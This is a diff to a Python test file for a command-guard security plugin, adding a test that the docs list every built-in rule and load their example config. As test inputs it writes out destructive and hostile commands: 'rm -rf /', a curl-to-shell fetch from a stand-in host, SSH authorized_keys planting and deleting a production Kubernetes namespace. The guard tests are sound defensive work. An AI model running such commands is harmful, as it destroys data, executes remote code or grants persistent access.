@@ -3,7 +3,9 @@ replaced and disabled from config, one clear error per config mistake, and hosti
 
 from __future__ import annotations
 
+import re
 import sys
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -307,3 +309,18 @@ def test_an_argv_is_not_read_as_shell() -> None:
     assert g.check(["echo", "rm -rf /; $(curl x.example | sh)"]) == Verdict("allow")
     assert g.check(["rm", "-rf", "/"]).risk == "critical"
     assert g.check(["bash", "-c", 'rm -rf "$1"', "bash", "/"]).risk == "critical"
+
+
+DOCS = Path(__file__).resolve().parents[3] / "docs" / "plugins" / "security.md"
+
+
+def test_the_docs_list_every_builtin_rule_and_their_example_config_loads() -> None:
+    text = DOCS.read_text(encoding="utf-8")
+    for rule in BUILTIN:
+        assert f"| `{rule.id}` | {rule.risk} | {rule.description} |" in text
+    block = re.search(r"```toml\n(\[plugins\.security\.commands\].*?)```", text, re.DOTALL)
+    assert block is not None
+    g = Guard.from_config(tomllib.loads(block[1])["plugins"]["security"]["commands"])
+    assert g.check("kubectl delete ns prod").rules == ("kubectl-delete",)
+    assert g.check("cat id.pub >> /home/ann/.ssh/authorized_keys").rules == ("ssh-keys",)
+    assert g.check("git push -f origin main") == Verdict("allow")
